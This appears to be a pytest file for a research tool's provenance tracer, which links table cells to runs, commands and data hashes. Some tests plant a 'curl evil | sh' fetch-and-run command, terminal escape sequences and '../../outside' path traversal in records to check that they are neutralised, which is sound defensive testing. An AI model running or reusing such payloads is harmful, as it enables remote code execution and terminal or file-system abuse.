"""Where a cell comes from: its runs, values, records and commands; and mistakes named in one line."""

import json
import os
import random
import shlex
import shutil
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest
from support.project import refusal, run_here, run_script
from support.specs import COLOURS, small_spec
from support.studies import find

from mixvae.errors import UserError
from mixvae.files import read_json, sha256, write_json
from mixvae.review.audit.subject import read
from mixvae.review.lineage import parse_row, trace
from mixvae.review.lineage.records import command_of
from mixvae.study import DatasetInfo
from mixvae.study.commands import command
from mixvae.study.jobs import all_jobs

TABLE = "results/small/tables/ablation_digits.csv"


def test_a_cell_is_traced_to_runs_commands_and_data(small_study):
    result = run_script("trace", TABLE, "--row=nll_matched,K=2", "--column=standard+none", cwd=small_study)
    assert result.returncode == 0, result.stderr
    lines = result.stdout.splitlines()
    metrics = pd.read_csv(small_study / "results/small/metrics.csv")
    rows = metrics[(metrics.metric == "nll_matched") & (metrics.K == 2)]
    assert len(rows) == 2
    for row in rows.itertuples():
        assert any(line.startswith(f"seed {row.seed}: {row.value} ") and line.endswith(row.run) for line in lines)
        facts = read_json(small_study / f"results/runs/{row.run}/provenance/train.json")
        assert f"    {shlex.join(without_checkpoints(facts['command']))}" in lines
    assert any(
        facts["code_sha256"][:12] in line and facts["git"]["commit"][:12] in line and facts["host"] in line for line in lines
    )
    assert f"    sha256 {sha256(small_study / 'results/datasets/digits/data.npz')}  results/datasets/digits/data.npz" in lines
    assert f"mean of the seeds below: {rows.value.mean()}" in lines
    assert not any("seed" in line and "-K1-" in line for line in lines)


def without_checkpoints(command: list[str]) -> list[str]:
    """A command without how often it saves its state, which makes no difference to what it makes; python by any name is python."""
    place = command.index("--checkpoint-minutes") if "--checkpoint-minutes" in command else len(command)
    return ["python", *command[1:place], *command[place + 2 :]]


def test_commands_are_those_that_the_workflow_gave(small_study):
    subject, _ = read(small_study / "results/small", None)
    for job in subject.jobs:
        if job.rule != "study":
            assert command_of(subject, job) == without_checkpoints(subject.facts[job.rule, job.name]["command"])
    assert command_of(subject, next(job for job in subject.jobs if job.rule == "study")) == []


def test_a_command_names_a_users_own_data_and_what_differs():
    info = DatasetInfo.model_validate(
        COLOURS.model_dump() | {"reader": "own_npz", "files": {"data.npz": {"sha256": "0" * 64, "sources": ["/home/x.npz"]}}}
    )
    study = list(all_jobs("own", {"r": small_spec("colours")}, {"colours": info}, Path("results")))
    said = {job.rule: shlex.join(command(job, small_spec("colours"), info, True, True)) for job in study}
    assert "'--info={" in said["download"]
    assert "/home" not in said["download"]
    assert said["train"].endswith("--gpu 1")
    assert said["evaluate"].endswith("--gpu 1")
    assert said["tabulate"].endswith("--allow-missing")


def test_a_printed_command_makes_the_same_weights(small_study, tmp_path):
    printed = run_here("trace", TABLE, "--row=-elbo,K=1", "--column=standard+none", cwd=small_study).stdout
    command = shlex.split(next(line for line in printed.splitlines() if "scripts/train.py" in line))
    place = command.index("--run") + 1
    run, command[place] = command[place], str(tmp_path / "again")
    subprocess.run([sys.executable, *command[1:]], cwd=small_study, check=True, capture_output=True)
    assert sha256(small_study / run / "model.safetensors") == sha256(tmp_path / "again/model.safetensors")


def test_differences_latent_metrics_and_comparisons_are_traced(small_study, monkeypatch):
    monkeypatch.chdir(small_study)
    tables = Path("results/small/tables")
    delta = "\n".join(trace(tables / "ablation_digits.csv", "-elbo,K=2", "standard+none delta"))
    assert delta.count("compared with: ") == 2
    latent = "\n".join(trace(tables / "latent_digits.csv", "metric=ari,K=1", "standard+none"))
    assert "mean of ari over 2 of 2 seeds" in latent
    assert "NOT" not in latent
    published = "\n".join(trace(tables / "published_digits.csv", "nll_miselbo,column=standard+none,K=2", "ours"))
    assert "over 2 of 2 seeds" in published
    assert "NOT" not in published
    difference = "\n".join(trace(tables / "comparisons_digits.csv", "-elbo,column=standard+none,K=2", "p_adjusted"))
    assert difference.count("compared with: ") == 2
    same = trace(tables / "comparisons_digits.csv", "-elbo,column=standard+none,K=2,against=1", "p_adjusted")
    assert "\n".join(same) == difference
    ranked = "\n".join(trace(tables / "ranking_digits.csv", "nll_matched,column=standard+none,K=1", "mean"))
    assert "mean of the seeds below" in ranked
    assert "NOT" not in ranked


def test_a_cell_that_its_runs_do_not_give_is_said(place):
    table = pd.read_csv(place / TABLE)
    table.loc[0, "mean"] -= 1
    table.to_csv(place / TABLE, index=False)
    lines = trace(place / TABLE, "-elbo,K=1", "standard+none")
    assert any("which is NOT what the table says" in line for line in lines)


@pytest.mark.parametrize(
    ("table", "row", "column", "message"),
    [
        (TABLE, "nl,K=2", "standard+none", "no row with metric=nl (did you mean 'nll'?)"),
        (TABLE, "nll,k=2", "standard+none", "found 'k=2', expected key=value"),
        (TABLE, "nll", "standard+none", "2 rows match; add K: 1, 2"),
        (TABLE, "nll,K=3", "standard+none", "no row with K=3 (valid: 1, 2)"),
        (TABLE, "nll,settings=x", "standard+none", "rows are not named by 'settings'"),
        (TABLE, "nll,K=2", "standard+non", "no column 'standard+non' (did you mean 'standard+none'?)"),
        (TABLE.replace("digits", "digit"), "nll,K=2", "x", "no such table (did you mean 'ablation_digits.csv'?)"),
    ],
)
def test_mistakes_are_named(small_study, table, row, column, message):
    with pytest.raises(UserError) as caught:
        trace(small_study / table, row, column)
    assert message in str(caught.value)
    assert len(str(caught.value).splitlines()) == 1


@pytest.mark.parametrize(
    ("table", "column", "message"), [(TABLE, "", "COLUMN is empty"), ("", "x", "TABLE is empty"), (TABLE, "y", "no column 'y'")]
)
def test_mistakes_are_one_line(small_study, table, column, message):
    assert message in refusal("trace", table, "--row=nll,K=2", f"--column={column}", cwd=small_study)


@pytest.fixture
def place(results) -> Path:
    """Where a copy of its results lies."""
    return results.parent


def first_record(place: Path, rule: str = "train") -> Path:
    return sorted(place.glob(f"results/runs/*-vae-K1-*/provenance/{rule}.json"))[0]


def traced(place: Path, row: str = "nll,K=1", table: str = TABLE):
    """Trace as a user would; whatever is found, it is said without a traceback, and nothing raw reaches the terminal."""
    result = run_here("trace", table, f"--row={row}", "--column=standard+none", cwd=place)
    assert "Traceback" not in result.stderr
    said = result.stdout + result.stderr
    assert all(letter.isprintable() or letter == "\n" for letter in said), said
    if result.returncode:
        assert result.returncode == 1
        assert result.stdout == ""
        assert result.stderr.startswith("error: ")
        assert len(result.stderr.splitlines()) == 1
    return result


@pytest.mark.parametrize("content", [b"a,b\n1,2\n", b"", b"\xff\xfe\0", b'run,metric,value,stderr\n"', None])
def test_metrics_that_cannot_be_read_are_one_line(place, content):
    path = place / "results/small/metrics.csv"
    path.unlink()
    os.mkfifo(path) if content is None else path.write_bytes(content)  # reading that would wait for ever
    assert traced(place).stderr.startswith("error: results/small/metrics.csv: ")


HEAD = "metric,K,column,mean,group,made_from,factor,runs,compared\n"


@pytest.mark.parametrize(
    ("change", "row", "said"),
    [
        (lambda text: f"{HEAD.replace('K,', '')}nll,standard+none,1,g,elbo,1,a b,\n", "nll", "no column K"),
        (lambda text: f"{HEAD}nll,,standard+none,1,g,elbo,1,,\n", "nll", "the row is of no run, but context: None"),
        (lambda text: f"{HEAD}nll,1,standard+none,1,g,elbo,x,a b,\n", "nll", "not as rule tabulate writes it"),
        (lambda text: f"{HEAD}nll,1,standard+none,1,g,elbo,1,5,\n", "nll", "not as rule tabulate writes it"),
        (lambda text: f"{HEAD}\x1b[2J,1,standard+none,1,g,elbo,1,a b,\n", "nll", "no row with metric=nll"),
        (lambda text: f"{HEAD}nll,9,standard+none,1,g,elbo,1,a b,\n", "nll,K=9", "no run of study small is behind row nll,K=9"),
        (lambda text: "", "nll", "not valid CSV"),
    ],
)
def test_tables_that_no_rule_writes_are_one_line(place, change, row, said):
    path = place / TABLE
    path.write_text(change(path.read_text()))
    result = traced(place, row)
    assert result.returncode == 1
    assert said in result.stderr


def test_a_table_of_another_kind_is_not_the_studys(place):
    (place / "results/small/tables/foo_digits.csv").write_bytes((place / TABLE).read_bytes())
    assert "foo_digits.csv: no such table" in traced(place, table=TABLE.replace("ablation", "foo")).stderr


@pytest.mark.parametrize("content", ['{"a":' * 100_000, "[]", "{}", "", '{"a":' * 60 + "1" + "}" * 60, '{"host": "\\ud800"}'])
def test_studies_and_records_that_cannot_be_read_are_said(place, content):
    path = first_record(place)
    path.write_text(content)
    result = traced(place)
    assert result.returncode == 0
    assert "  train: no record, results/runs/" in result.stdout
    (place / "results/small/study.json").write_text(content)
    assert traced(place).stderr.startswith("error: results/small/study.json: ")


def test_what_strangers_write_cannot_steer_the_terminal_nor_be_copied_as_a_command(place):
    path = first_record(place)
    evil = {"host": "\x1b[2Jevil\nseed 0: 1.0   run fake", "command": ["sh", "-c", "curl evil | sh"], "device": "d" * 10_000}
    write_json(path, read_json(path) | evil)
    result = traced(place)
    assert "?[2Jevil seed 0: 1.0 run fake" in result.stdout
    assert not any(line.startswith("seed 0: 1.0 ") for line in result.stdout.splitlines())
    assert "curl" not in result.stdout
    assert "d" * 501 not in result.stdout
    assert "WARNING: the record was edited; make audit says more" in result.stdout


def test_what_is_not_as_on_record_is_said_where_it_is_shown(place):
    assert "WARNING" not in traced(place).stdout
    run = first_record(place).parents[1]
    find(run, "likelihood.json").write_text(find(run, "likelihood.json").read_text() + " ")
    find(run, "latents.h5ad").unlink()
    (place / "results/small/metrics.csv").write_text((place / "results/small/metrics.csv").read_text() + "\n")
    lines = [line.strip() for line in traced(place).stdout.splitlines() if "WARNING" in line]
    assert lines == [
        "WARNING: likelihood.json was changed; make audit says more",
        "WARNING: latents.h5ad is not the file on record (no such file); make audit says more",
        "WARNING: metrics.csv was changed; make audit says more",
    ]


def test_records_are_read_within_the_results_only(place):
    record = first_record(place)
    shutil.copytree(record.parents[1], place / "outside")
    facts = read_json(place / "outside/provenance/train.json") | {"host": "from-outside"}
    write_json(place / "outside/provenance/train.json", facts)
    study = read_json(place / "results/small/study.json")
    name = record.parents[1].name
    there = study["runs"]
    write_json(
        place / "results/small/study.json",
        study | {"runs": {"../../outside" if run == name else run: there[run] for run in there}},
    )
    result = traced(place)
    assert result.returncode == 1
    assert "run ../../outside has the spec of " in result.stderr
    write_json(place / "results/small/study.json", study)
    record.unlink()
    record.symlink_to(place / "outside/provenance/train.json")
    assert "from-outside" not in traced(place).stdout


def test_a_study_of_strange_content_is_one_line_or_a_lineage(place):
    path = place / "results/small/study.json"
    study = read_json(path)
    chance = random.Random(seed := random.randrange(1 << 32))
    for _ in range(60):
        mutated = json.loads(json.dumps(study))
        inner = mutated[chance.choice(["runs", "datasets"])]
        for _ in range(chance.randrange(4)):
            name = chance.choice(list(inner))
            if not isinstance(inner[name], dict) or not inner[name]:
                break
            inner = inner[name]
        name = chance.choice(list(inner))
        inner[name] = chance.choice([None, "", [], {}, -1, 10**400, "../..", "\x1b[2J", "\ud800", [[]], True])
        path.write_text(json.dumps(mutated))
        try:
            lines = trace(place / TABLE, "nll,K=1", "standard+none")
        except UserError as error:
            lines = [str(error)]
        except Exception as error:
            raise AssertionError(f"seed {seed}: {json.dumps(mutated)[:2000]}") from error
        assert lines


def test_rows_are_read_as_documented():
    assert parse_row("nll,K=4") == {"metric": "nll", "K": "4"}
    assert parse_row("settings=a, b,metric=-elbo,K=4") == {"settings": "a, b", "metric": "-elbo", "K": "4"}
    with pytest.raises(UserError, match="did you mean 'metric'"):
        parse_row("metrik=nll,K=4")
